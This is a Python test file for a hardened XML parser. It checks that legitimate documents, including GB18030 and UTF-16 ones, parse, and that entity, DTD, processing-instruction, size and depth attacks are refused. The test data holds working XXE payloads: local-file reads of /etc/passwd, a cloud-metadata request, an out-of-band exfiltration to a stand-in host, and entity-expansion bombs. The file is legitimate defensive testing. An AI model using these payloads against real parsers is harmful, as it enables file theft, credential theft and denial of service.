"""Hardened XML parsing: entity and DTD attacks, size and depth limits, PIs, comments, GB18030."""

from __future__ import annotations

import gzip
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from trust import TrustError
from trust._xml import XmlRejected, parse_xml

QUICK = 0.25  # seconds; a refusal must not expand anything first


def lol(levels: int = 9, fan_out: int = 10) -> bytes:
    """The classic billion laughs: each entity is ten of the one before."""
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1)) * fan_out))
    return b'<?xml version="1.0"?><!DOCTYPE lolz [' + b"".join(entities) + b"]><lolz>&lol%d;</lolz>" % levels


ATTACKS = {
    "xxe-file": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "xxe-in-attribute": b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r a="&x;"/>',
    "xxe-network": b'<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
    "billion-laughs": lol(),
    "quadratic-blowup": b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><r>' + b"&a;" * 20_000 + b"</r>",
    "external-dtd-file": b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
    "external-dtd-network": b'<!DOCTYPE r PUBLIC "-//X//Y" "http://example.invalid/evil.dtd"><r/>',
    "parameter-entity-file": b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]><r/>',
    "parameter-entity-endless": b'<!DOCTYPE r [<!ENTITY % z SYSTEM "file:///dev/zero"> %z;]><r/>',
    "parameter-entity-oob": (
        b'<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/hostname">'
        b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://example.invalid/?x=%file;'>\">"
        b"%eval; %exfil;]><r/>"
    ),
    "parameter-entity-laughs": (b"<!DOCTYPE r [<!ENTITY % a \"<!ENTITY b 'x'>\">" + b"%a;" * 1000 + b"]><r/>"),
    "internal-subset-only": b"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>",
    "bare-doctype": b"<!DOCTYPE r><r/>",
    "utf16-xxe": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode(
        "utf-16"
    ),
}


def rejected(data: bytes, **limits: int) -> XmlRejected:
    started = time.perf_counter()
    with pytest.raises(XmlRejected) as caught:
        parse_xml(data, **limits)
    assert time.perf_counter() - started < QUICK
    return caught.value


# ---- what parses ------------------------------------------------------------------------------------


def test_a_plain_document_parses() -> None:
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><a xmlns="urn:x"><b k="v">text</b></a>')
    assert root.tag == "{urn:x}a"
    assert root[0].get("k") == "v"
    assert root[0].text == "text"


def test_a_gb18030_declared_document_parses() -> None:
    text = '<?xml version="1.0" encoding="GB18030"?><申请 事项="深中通办"><名称>营业执照（副本）𠀋</名称></申请>'
    data = text.encode("gb18030")
    assert b"\xe6" not in data[:2] and data != text.encode("utf-8")  # really GB18030 bytes, not UTF-8
    root = parse_xml(data)
    assert root.tag == "申请"
    assert root.get("事项") == "深中通办"
    assert root[0].text == "营业执照（副本）𠀋"  # 𠀋 is a four-byte GB18030 sequence
    assert root.getroottree().docinfo.encoding.upper() == "GB18030"


def test_utf16_with_a_byte_order_mark_parses() -> None:
    root = parse_xml('<?xml version="1.0" encoding="UTF-16"?><r>中山</r>'.encode("utf-16"))
    assert root.text == "中山"


def test_predefined_entities_and_character_references_still_work() -> None:
    root = parse_xml(b"<r>&lt;&amp;&gt;&quot;&apos;&#x6DF1;&#20013;</r>")
    assert root.text == "<&>\"'深中"


def test_comments_are_removed_and_the_text_around_them_joined() -> None:
    # The comment-truncation trick: with the comment kept, .text would be "admin" only.
    root = parse_xml(b"<user><name>admin<!-- -->.evil.example</name><!-- note --><role>x</role></user>")
    assert root[0].text == "admin.evil.example"
    assert [child.tag for child in root] == ["name", "role"]


def test_cdata_becomes_plain_text() -> None:
    assert parse_xml(b"<r><![CDATA[<not-a-tag/>]]></r>").text == "<not-a-tag/>"


def test_a_document_exactly_at_the_limits_parses() -> None:
    nested = b"<a>" * 100 + b"</a>" * 100
    parse_xml(nested, max_depth=100, max_bytes=len(nested))


@settings(max_examples=50, deadline=None)
@given(text=st.text(alphabet=st.characters(codec="gb18030", exclude_categories=("Cs", "Cc")), max_size=40))
def test_any_gb18030_text_round_trips(text: str) -> None:
    element = etree.Element("r")
    element.text = text
    data = etree.tostring(element, encoding="GB18030", xml_declaration=True)
    assert (parse_xml(data).text or "") == text


# ---- what is refused -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_entity_and_dtd_attacks_are_refused_quickly(name: str) -> None:
    error = rejected(ATTACKS[name])
    assert "DOCTYPE" in error.reason or "DTD" in error.reason
    assert "root:" not in str(error)  # nothing from a local file leaks into the reason


def test_the_refusal_does_not_depend_on_the_probe() -> None:
    # Defence in depth: the tree pass alone refuses a DOCTYPE too.
    from trust import _xml

    parser = _xml._tree_parser()
    with pytest.raises(XmlRejected):
        etree.fromstring(ATTACKS["external-dtd-file"], parser)
    with pytest.raises(XmlRejected):
        etree.fromstring(ATTACKS["parameter-entity-file"], _xml._tree_parser())
    root = etree.fromstring(ATTACKS["xxe-file"], _xml._tree_parser())
    assert root.getroottree().docinfo.internalDTD is not None  # kept, not expanded: parse_xml's check refuses it
    assert "root:" not in etree.tostring(root).decode()


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml-stylesheet type="text/xsl" href="evil.xsl"?><r/>',
        b"<r><?php echo 1; ?></r>",
        b"<r/><?after root?>",
    ],
    ids=["before-root", "inside", "after-root"],
)
def test_processing_instructions_are_refused(data: bytes) -> None:
    assert "processing instructions" in rejected(data).reason


def test_the_xml_declaration_is_not_a_processing_instruction() -> None:
    parse_xml(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><r/>')


def test_oversized_documents_are_refused_before_parsing() -> None:
    body = b"<r>" + b"x" * 2000 + b"</r>"
    assert "larger than 1024 bytes" in rejected(body, max_bytes=1024).reason
    big = b"<r>" + b"x" * (16 * 1024 * 1024) + b"</r>"
    assert "larger than" in rejected(big).reason  # the 16 MiB default


@pytest.mark.parametrize("depth", [101, 256, 257, 100_000])
def test_too_deep_documents_are_refused(depth: int) -> None:
    data = b"<a>" * depth + b"</a>" * depth
    assert "nested too deeply" in rejected(data).reason


def test_a_smaller_depth_limit_applies() -> None:
    assert "nested too deeply" in rejected(b"<a><b><c/></b></a>", max_depth=2).reason
    parse_xml(b"<a><b/></a>", max_depth=2)


def test_depth_limits_beyond_libxml2s_are_a_programming_error() -> None:
    with pytest.raises(ValueError, match="max_depth"):
        parse_xml(b"<r/>", max_depth=1000)


@pytest.mark.parametrize(
    "data",
    [b"", b"   ", b"<r>", b"<r></s>", b"<r>&undefined;</r>", b"not xml", gzip.compress(b"<r/>"), b"<a/><b/>"],
    ids=["empty", "blank", "unclosed", "mismatched", "undefined-entity", "text", "gzip", "two-roots"],
)
def test_malformed_documents_are_refused(data: bytes) -> None:
    rejected(data)


def test_the_reason_never_quotes_the_document() -> None:
    error = rejected(b"<r><secret-token-123</r>")
    assert error.reason == "not well-formed XML"
    assert "secret" not in str(error)


def test_text_is_not_accepted() -> None:
    with pytest.raises(TypeError):
        parse_xml("<r/>")  # type: ignore[arg-type]


def test_xml_rejected_is_a_trust_error_and_a_value_error() -> None:
    error = rejected(ATTACKS["billion-laughs"])
    assert isinstance(error, TrustError)
    assert isinstance(error, ValueError)
